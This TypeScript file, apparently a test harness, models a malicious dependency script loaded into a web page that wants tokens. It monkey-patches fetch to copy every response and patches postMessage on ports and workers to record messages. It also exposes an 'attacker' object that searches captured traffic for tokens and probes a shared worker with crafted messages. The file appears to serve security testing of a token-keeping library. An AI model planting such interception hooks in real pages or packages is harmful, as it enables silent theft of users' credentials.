/** Script that came into a page with everything else of it, as a dependency that was bought does. It wants tokens. */
import { overheard, search, spy, textOf } from './search.ts';

spy();

// … and the answers to the page's requests, and what it sends to others.
const { fetch } = globalThis;
globalThis.fetch = async (...request) => {
  const response = await fetch(...request);
  response
    .clone()
    .text()
    .then((text) => overheard.push(text));
  return response;
};
for (const { prototype } of [MessagePort, Worker, ServiceWorker]) {
  const { postMessage } = prototype;
  prototype.postMessage = function (this: MessagePort, ...parameters: never[]): void {
    overheard.push(textOf(parameters[0]));
    postMessage.apply(this, parameters as never);
  };
}

interface Asked {
  readonly url: string;
  readonly to?: string;
}

Object.assign(globalThis, {
  attacker: {
    /** Where one of these tokens can be found from here. */
    search: async (tokens: string[]) => await search(new RegExp(tokens.join('|'))),
    /** Returns the response of a shared worker to a message that was made by hand, as text. */
    ask: ({ url, to }: Asked, message: object): Promise<string> =>
      new Promise((resolve) => {
        const { port } = new SharedWorker(url);
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => resolve(JSON.stringify(data));
        port.postMessage({ tokenkeep: 'tokenkeep', to, message }, [port2]);
      }),
  },
});
